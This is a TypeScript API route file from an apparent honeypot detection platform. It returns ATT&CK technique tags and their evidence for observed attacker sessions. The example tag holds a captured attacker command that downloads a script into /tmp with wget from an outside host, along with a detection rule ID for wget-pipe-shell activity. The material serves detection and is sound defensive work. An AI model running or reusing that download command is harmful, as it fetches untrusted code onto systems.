import { createRoute, z } from '@hono/zod-openapi'
import type { Parameter, Views } from '../../core/clickhouse.ts'
import { assert } from '../../core/error.ts'
import { secondMs } from '../../core/units.ts'
import type { Attack } from '../../schemas/attack.ts'
import { cursor, nextCursor, page } from '../cursor.ts'
import {
  earliestS,
  id,
  latestS,
  limit,
  minConfidence,
  range,
  techniqueId,
  versions,
} from '../parameters.ts'
import { json, type Resource, timestamp } from '../resource.ts'

/** Single tags, newest first, each with the evidence that made it. */

const tag = z
  .object({
    tag_id: z.uuid(),
    source_kind: z.string(),
    source_id: z.string(),
    event_time: timestamp,
    ingest_time: timestamp,
    tagged_time: timestamp,
    identity_id: z.string().nullable(),
    attacker_id: z.string().nullable(),
    session_id: z.string().nullable(),
    host: z.string().nullable(),
    user: z.string().nullable(),
    decoy: z.string().nullable(),
    tactic: z.string(),
    tactics: z.array(z.string()),
    technique_id: z.string(),
    technique_name: z.string().nullable(),
    sub_technique_id: z.string().nullable(),
    sub_technique_name: z.string().nullable(),
    confidence: z.number().min(0).max(1),
    severity: z.string(),
    rule_id: z.string(),
    rule_version: z.string(),
    rule_hash: z.string(),
    evidence: z.record(z.string(), z.unknown()),
    attack_release: z.string(),
    in_release: z.boolean(),
    superseded_at: timestamp.nullable().openapi({
      description:
        'When a retag put another version of the rule in its place; null for a tag that stands.',
    }),
    log: z.string(),
    topic: z.string(),
    partition: z.int().nonnegative(),
    offset: z.int().nonnegative(),
  })
  .openapi('Tag')

const tagExample: z.input<typeof tag> = {
  tag_id: '2ed6657d-e927-568b-95e1-2665a8aea6a2',
  source_kind: 'command',
  source_id: 'cowrie:d051258efd62:7',
  event_time: '2026-11-20T10:41:07.123Z',
  ingest_time: '2026-11-20T10:41:08.002Z',
  tagged_time: '2026-11-20T10:41:08.002Z',
  identity_id: null,
  attacker_id: '203.0.113.9',
  session_id: 'd051258efd62',
  host: 'hp-01',
  user: null,
  decoy: 'hp-01',
  tactic: 'TA0011',
  tactics: ['TA0011'],
  technique_id: 'T1105',
  technique_name: 'Ingress Tool Transfer',
  sub_technique_id: null,
  sub_technique_name: null,
  confidence: 0.8,
  severity: 'high',
  rule_id: 'linux-shell.wget-pipe-shell',
  rule_version: '3~9f86d081',
  rule_hash: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
  evidence: { command_text: 'cd /tmp; wget 198.51.100.7/x.sh' },
  attack_release: '18.1',
  in_release: true,
  superseded_at: null,
  log: '5f0c8a52',
  topic: 'ttp.commands',
  partition: 0,
  offset: 4711,
}

const route = createRoute({
  method: 'get',
  path: '/api/v1/ttp/tags',
  tags: ['ttp'],
  summary: 'Single tags with their evidence',
  description: 'Newest event first. Filters combine with and.',
  request: {
    query: z.strictObject({
      technique: techniqueId.optional(),
      identity: id('Only of this identity.', 'actor-7').optional(),
      attacker: id('Only of this attacker.', '203.0.113.9').optional(),
      session: id('Only of this session.', 'd051258efd62').optional(),
      host: id('Only on this host.', 'hp-01').optional(),
      rule: id('Only by this rule.', 'linux-shell.wget-pipe-shell').optional(),
      ...range,
      min_confidence: minConfidence,
      versions,
      limit: limit(100),
      cursor: cursor('tags', z.tuple([z.number(), z.uuid()])),
    }),
  },
  responses: {
    200: json(
      z.object({ data: z.array(tag), next_cursor: nextCursor }).openapi('TagPage'),
      'Tags, newest first.',
      { data: [tagExample], next_cursor: null },
    ),
  },
})

/** Sorts after every tag id, so that a first page begins at the newest. */
const lastUuid = 'ffffffff-ffff-ffff-ffff-ffffffffffff'

export const tags: Resource = (app, { views, attack }) => {
  app.openapi(route, async (c) => {
    const query = c.req.valid('query')
    const [beforeS, beforeId] = query.cursor ?? [latestS, lastUuid]
    const anchors = {
      identity_id: query.identity ?? '',
      attacker_id: query.attacker ?? '',
      session_id: query.session ?? '',
    }
    const isAnchored = Object.values(anchors).some((id) => id !== '')
    const asked = {
      from_s: query.from ?? earliestS,
      to_s: query.to ?? latestS,
      min_confidence: query.min_confidence ?? 0,
      technique_id: query.technique ?? '',
      host: query.host ?? '',
      rule_id: query.rule ?? '',
      all_versions: query.versions === 'all',
      before_time_s: beforeS,
      before_id: beforeId,
      // One row more tells whether there is a next page.
      limit_rows: query.limit + 1,
    }
    const rows = isAnchored
      ? await tagsOfEntity(views, { ...asked, ...anchors })
      : await views.select<TagRow>('tag_list', asked)
    const cut = page('tags', rows, query.limit, (row) => [
      Date.parse(row.event_time) / secondMs,
      row.tag_id,
    ])
    return c.json({ ...cut, data: cut.data.map((row) => toTag(row, attack)) }, 200)
  })
}

/** A row of `tag_list`; '' is absent, evidence is JSON text. */
type TagRow = {
  [Column in Exclude<
    keyof z.input<typeof tag>,
    'evidence' | 'technique_name' | 'sub_technique_name' | 'superseded_at'
  >]: NonNullable<z.input<typeof tag>[Column]>
} & {
  readonly evidence: string
  readonly is_superseded: boolean
  readonly retagged_time: string
}

type Apart = 'tag_id' | 'event_time' | 'is_superseded' | 'retagged_time'

/** A row of `tag_list_of_entity`. */
type PackedRow = Pick<TagRow, Apart> & { readonly tag: Omit<TagRow, Apart> }

async function tagsOfEntity(
  views: Views,
  asked: Readonly<Record<string, Parameter>>,
): Promise<TagRow[]> {
  const rows = await views.select<PackedRow>('tag_list_of_entity', asked)
  return rows.map(({ tag, ...changing }) => ({ ...tag, ...changing }))
}

function toTag(row: TagRow, attack: Attack): z.input<typeof tag> {
  const sub = presentOr(row.sub_technique_id)
  return {
    tag_id: row.tag_id,
    source_kind: row.source_kind,
    source_id: row.source_id,
    event_time: row.event_time,
    ingest_time: row.ingest_time,
    tagged_time: row.tagged_time,
    identity_id: presentOr(row.identity_id),
    attacker_id: presentOr(row.attacker_id),
    session_id: presentOr(row.session_id),
    host: presentOr(row.host),
    user: presentOr(row.user),
    decoy: presentOr(row.decoy),
    tactic: row.tactic,
    tactics: row.tactics,
    technique_id: row.technique_id,
    technique_name: attack.technique(row.technique_id)?.name ?? null,
    sub_technique_id: sub,
    sub_technique_name: sub === null ? null : (attack.technique(sub)?.name ?? null),
    confidence: row.confidence,
    severity: row.severity,
    rule_id: row.rule_id,
    rule_version: row.rule_version,
    rule_hash: row.rule_hash,
    evidence: parseEvidence(row.evidence),
    attack_release: row.attack_release,
    in_release: row.in_release,
    superseded_at: row.is_superseded ? row.retagged_time : null,
    log: row.log,
    topic: row.topic,
    partition: row.partition,
    offset: row.offset,
  }
}

function presentOr(text: string): string | null {
  return text === '' ? null : text
}

/** Evidence is written by the engine as a JSON object; '' where a rule declares none. */
function parseEvidence(text: string): Record<string, unknown> {
  if (text === '') return {}
  const value: unknown = JSON.parse(text)
  assert(
    typeof value === 'object' && value !== null && !Array.isArray(value),
    'evidence is no object',
  )
  return { ...value }
}
